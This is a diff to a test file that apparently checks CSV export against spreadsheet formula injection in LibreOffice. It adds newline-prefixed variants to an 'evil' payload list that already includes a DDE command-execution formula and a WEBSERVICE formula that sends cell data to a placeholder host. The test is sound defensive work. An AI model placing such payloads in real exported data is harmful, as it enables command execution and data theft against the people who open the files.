@@ -34,6 +34,8 @@ const evil = [
   "@SUM(A1)",
   "\t=1",
   "\r=1",
+  "\n=1",
+  "Eins\n=1+1",
   '=HYPERLINK("http://x.example";"hier")',
   "=cmd|' /C calc'!A0",
   `=WEBSERVICE("http://x.example/"&A1)`,
@@ -103,7 +105,7 @@ describe.skipIf(!office)(`CSV in LibreOffice${office ? "" : " (left out: no soff
     for (const text of [...evil, ...kind]) {
       const { drafts } = await w.brief(text, [text], { person: "web:eve" });
       await w.rate(drafts[0] ?? "", "down", { comment: text });
-      await w.decide(drafts[0] ?? "", "reject", "web:eve", text);
+      await w.decide(drafts[0] ?? "", "reject", "web:chef", text);
     }
   });
   afterAll(async () => {
